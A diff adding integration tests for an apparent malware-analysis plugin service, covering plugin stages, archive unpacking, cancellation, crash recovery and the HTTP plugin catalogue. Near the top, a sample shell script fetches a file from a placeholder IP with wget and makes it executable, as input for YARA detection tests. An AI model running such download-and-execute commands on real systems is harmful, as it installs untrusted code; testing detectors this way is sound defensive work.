@@ -1,0 +1,257 @@
+"""The plugins service for real: RabbitMQ, PostgreSQL, the object store, HTTP, and host plugins in the sandbox."""
+
+import asyncio
+import io
+import zipfile
+from collections.abc import AsyncIterator, Callable
+from pathlib import Path
+
+import pytest
+import pyzipper
+
+from contracts.plugins import (
+    PluginFinished,
+    PluginRegistered,
+    PluginRejected,
+    PluginResultProduced,
+    PluginStageCompleted,
+    PluginStageFailed,
+    PluginStageStarted,
+    PluginStarted,
+)
+from tests.integration.plugins_bench import Bench, connected, open_folder, process, service, settings, until_ready
+from tests.security.test_sandbox import processes_with
+from tests.unit.plugins.test_manifest import GOOD
+from tests.unit.plugins.test_yara_rules import EICAR
+
+pytestmark = pytest.mark.integration
+SCRIPT = b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n"
+SLEEPER = """
+import time
+def run(context):
+    time.sleep(30)
+"""
+READER = """
+def run(context):
+    context.emit_json("count", [[one.plugin, one.name] for one in context.inputs])
+"""
+
+
+def add_plugin(directory: Path, name: str, code: str, *, stages: str = '["static"]') -> None:
+    """An operator's plugin."""
+    folder = directory / name
+    folder.mkdir(parents=True)
+    text = GOOD.replace('name = "counter"', f'name = "{name}"').replace('["static"]', stages)
+    (folder / "plugin.toml").write_text(text, encoding="utf-8")
+    (folder / "plugin.py").write_text(code, encoding="utf-8")
+
+
+@pytest.fixture
+async def bench(amqp_url: str, database_url: str) -> AsyncIterator[Bench]:
+    """A running service with three plugins of an operator's, one of them broken."""
+    with open_folder() as folder:
+        add_plugin(folder / "plugins", "sleeper", SLEEPER)
+        add_plugin(folder / "plugins", "reader", READER, stages='["static", "post"]')
+        add_plugin(folder / "plugins", "broken", "")
+        (folder / "plugins/broken/plugin.toml").write_text("[plugin]\ncolour = 1\n", encoding="utf-8")
+        own = settings(amqp_url, database_url, folder, plugin_dirs=[folder / "plugins"])
+        async with service(own), connected(own) as bench:
+            yield bench
+
+
+def zipped(*names: str, password: bytes = b"") -> bytes:
+    """An archive of scripts of those names."""
+    buffer = io.BytesIO()
+    encryption = {"encryption": pyzipper.WZ_AES} if password else {}
+    with pyzipper.AESZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, **encryption) as archive:
+        if password:
+            archive.setpassword(password)
+        for name in names:
+            archive.writestr(name, SCRIPT)
+    return buffer.getvalue()
+
+
+@pytest.mark.promise("D1")
+async def test_a_static_stage_runs_every_plugin_and_says_what_it_did(bench: Bench) -> None:
+    """Facts in their order, results in the store before the fact that names them, nothing failed."""
+    await bench.order(SCRIPT, "identity", "yara", name="a.sh")
+    [completed] = await bench.hear(PluginStageCompleted)
+    produced = bench.said(PluginResultProduced)
+    assert bench.outcomes() == {"identity": "completed", "yara": "completed"}
+    assert completed.result_ids == tuple(fact.result_id for fact in produced)
+    assert (completed.errors, completed.ended_by) == ((), None)
+    assert (await bench.json_of("identity", "identity"))["package"] == "shell"
+    assert [match["rule"] for match in (await bench.json_of("yara", "yara"))["matches"]] == ["downloads_and_runs"]
+    kinds = [type(fact) for fact in bench.heard if not isinstance(fact, PluginRegistered | PluginRejected)]
+    one_run = [PluginStarted, PluginResultProduced, PluginFinished]
+    assert kinds == [PluginStageStarted, *one_run, *one_run, PluginStageCompleted]
+
+
+@pytest.mark.promise("P15")
+async def test_an_order_that_is_repeated_changes_nothing(bench: Bench) -> None:
+    """The second order, under another message id, is not run."""
+    command = await bench.order(EICAR, "yara")
+    await bench.hear(PluginStageCompleted)
+    before = len(bench.heard)
+    await bench.tell(command)
+    await bench.order(EICAR, "identity", task_id="tsk_" + "0" * 32)
+    await bench.hear(PluginStageCompleted, 2)
+    assert {fact.task_id for fact in bench.heard[before:] if isinstance(fact, PluginStageCompleted)} == {
+        "tsk_" + "0" * 32
+    }
+
+
+@pytest.mark.promise("P36")
+async def test_a_later_group_and_a_later_stage_see_earlier_results(bench: Bench) -> None:
+    """In the same stage what earlier groups produced; in a post stage what all stages did."""
+    await bench.order(SCRIPT, "identity", "reader")
+    await bench.hear(PluginStageCompleted)
+    assert await bench.json_of("reader", "count") == [["identity", "identity"]]
+    bench.heard.clear()
+    await bench.order(SCRIPT, "reader", stage="post")
+    await bench.hear(PluginStageCompleted)
+    assert await bench.json_of("reader", "count") == [["identity", "identity"], ["reader", "count"]]
+
+
+async def test_what_does_not_apply_is_skipped_and_an_error_only_when_asked_for(bench: Bench) -> None:
+    """`auto` decides from content; whoever named the plugin learns that it had nothing to do."""
+    await bench.order(SCRIPT, "elf")
+    [completed] = await bench.hear(PluginStageCompleted)
+    [finished] = bench.said(PluginFinished)
+    assert (finished.outcome, finished.reason) == ("skipped", "it is for elf, archive; this is shell")
+    assert completed.errors == ()
+    request = {"plugins": [{"name": "elf"}]}
+    await bench.order(SCRIPT, "elf", task_id="tsk_" + "1" * 32, request=request)
+    [_, asked] = await bench.hear(PluginStageCompleted, 2)
+    assert [(error.plugin, error.outcome) for error in asked.errors] == [("elf", "skipped")]
+
+
+@pytest.mark.promise("D1")
+async def test_a_plugin_that_is_not_there_is_an_error(bench: Bench) -> None:
+    """Not run is never an empty success."""
+    await bench.order(SCRIPT, "identity", "absent")
+    [completed] = await bench.hear(PluginStageCompleted)
+    assert [(error.plugin, error.outcome) for error in completed.errors] == [("absent", "skipped")]
+    assert len(completed.result_ids) == 1
+
+
+@pytest.mark.promise("A2")
+async def test_the_chosen_entry_of_an_archive_is_analysed(bench: Bench) -> None:
+    """Password and entry have their effect; the archive's listing is a result as well."""
+    request = {"password": "pw", "archive_entry": "b.sh"}
+    await bench.order(zipped("a.sh", "b.sh", password=b"pw"), "identity", "reader", name="x.zip", request=request)
+    [completed] = await bench.hear(PluginStageCompleted)
+    assert (await bench.json_of("unpack", "archive"))["chosen"] == "b.sh"
+    assert (await bench.json_of("identity", "identity"))["mime"] == "text/x-shellscript"
+    assert ["unpack", "container"] in await bench.json_of("reader", "count")
+    assert len(completed.result_ids) == 3
+
+
+@pytest.mark.parametrize(
+    ("sample", "request_", "reason"),
+    [
+        (zipped("a", password=b"pw"), {"password": "no"}, "wrong archive password"),
+        (zipped("a", "b"), {"archive_entry": "c"}, "the archive has no entry c; it has: a, b"),
+        (zipped("a", "b"), {}, "the archive has several files; name one as archive_entry: a, b"),
+        (SCRIPT, {"archive_entry": "c"}, "archive_entry and password are for archives; this sample is not one"),
+        (b"no archive at all", {"package": "archive"}, "the archive cannot be read: File is not a zip file"),
+    ],
+)
+async def test_an_archive_that_cannot_be_opened_fails_the_stage_in_words(
+    sample: bytes, request_: dict[str, str], reason: str, bench: Bench
+) -> None:
+    """Trying again would change nothing; the submitter reads what would."""
+    await bench.order(sample, "identity", request=request_)
+    [failed] = await bench.hear(PluginStageFailed)
+    assert (failed.reason, failed.is_retryable, failed.result_ids) == (reason, False, ())
+
+
+@pytest.mark.promise("P34")
+async def test_a_cancelled_stage_ends_at_once_and_names_what_did_not_run(bench: Bench) -> None:
+    """What came before is sealed; the running plugin is ended, long before its own end."""
+    await bench.order(SCRIPT, "identity", "sleeper", "yara")
+    await bench.hear(PluginStarted, 2)
+    await bench.cancel("static")
+    [completed] = await asyncio.wait_for(bench.hear(PluginStageCompleted), 10)
+    assert completed.ended_by == "cancelled"
+    assert len(completed.result_ids) == 1
+    assert [(error.plugin, error.outcome) for error in completed.errors] == [
+        ("sleeper", "skipped"),
+        ("yara", "skipped"),
+    ]
+
+
+async def test_a_cancellation_that_overtakes_the_order_holds(bench: Bench) -> None:
+    """No plugin runs."""
+    await bench.cancel("static")
+    await bench.order(SCRIPT, "sleeper")
+    [completed] = await asyncio.wait_for(bench.hear(PluginStageCompleted), 10)
+    assert completed.ended_by == "cancelled"
+    assert [error.plugin for error in completed.errors] == ["sleeper"]
+
+
+async def test_a_missing_sample_is_said_not_awaited(bench: Bench) -> None:
+    """The object store has no such bytes: the stage fails with that reason."""
+    command = await bench.order(b"x", "identity", stage="static", task_id="tsk_" + "2" * 32)
+    await bench.hear(PluginStageCompleted)
+    lost = command.model_dump(mode="json")
+    lost["sample"]["blob"]["sha256"] = "0" * 64
+    lost["task_id"] = bench.task_id
+    await bench.tell(type(command).model_validate(lost))
+    [failed] = await bench.hear(PluginStageFailed)
+    assert "not in the object store" in failed.reason
+
+
+@pytest.mark.promise("P3", "P15", "P34")
+async def test_a_service_that_is_killed_in_the_middle_finishes_after_its_return(
+    amqp_url: str, database_url: str
+) -> None:
+    """Killed while a plugin runs: the plugin dies with it, the next process ends the stage, nothing is said twice."""
+    with open_folder() as folder:
+        marker = f"sleeper{folder.name[-8:]}"
+        add_plugin(
+            folder / "plugins",
+            "sleeper",
+            f'import os\n\ndef run(context):\n    os.execv("/usr/bin/sleep", ["{marker}", "600"])\n',
+        )
+        own = settings(amqp_url, database_url, folder, plugin_dirs=[folder / "plugins"])
+        async with process(own) as first, connected(own) as bench:
+            await bench.order(SCRIPT, "identity", "sleeper", "yara")
+            await bench.hear(PluginStarted, 2)
+            await until(lambda: bool(processes_with(marker)))
+            first.kill()
+            await asyncio.wait_for(first.wait(), 10)
+            await until(lambda: not processes_with(marker))
+            async with process(own):
+                await until_ready(bench)
+                await until(lambda: bool(processes_with(marker)))
+                await bench.cancel("static")
+                [completed] = await bench.hear(PluginStageCompleted)
+                await until(lambda: not processes_with(marker))
+        assert len(completed.result_ids) == 1
+        assert [error.plugin for error in completed.errors] == ["sleeper", "yara"]
+        assert len(bench.said(PluginResultProduced)) == len(bench.said(PluginStageStarted)) == 1
+
+
+async def until(holds: Callable[[], bool]) -> None:
+    """It holds. Raises TimeoutError after twenty seconds."""
+    async with asyncio.timeout(20):
+        while not holds():  # noqa: ASYNC110 - another process changes it
+            await asyncio.sleep(0.05)
+
+
+async def test_the_catalogue_is_said_at_start_and_shown_over_http(bench: Bench) -> None:
+    """Registered plugins, and the broken folder with the reason why it is none."""
+    listed = (await bench.get("/plugins")).json()
+    names = {item["name"] for item in listed["items"]}
+    assert {"identity", "yara", "elf", "syscalls", "sleeper", "reader"} <= names
+    assert [entry["name"] for entry in listed["rejected"]] == ["broken"]
+    assert "plugin.colour: unknown key" in (await bench.get("/plugins/broken")).json()["reason"]
+    shown = (await bench.get("/plugins/yara")).json()
+    assert shown["runtime"]["memory_mib"] == 768
+    missing = await bench.get("/plugins/absent")
+    assert (missing.status_code, missing.json()["code"]) == (404, "unknown_plugin")
+    assert (await bench.http.get("/api/v1/plugins", timeout=5)).status_code == 401
+    registered = await bench.hear(PluginRegistered, len(names))
+    assert {fact.manifest.name for fact in registered} == names
+    assert [fact.folder for fact in await bench.hear(PluginRejected)] == ["broken"]
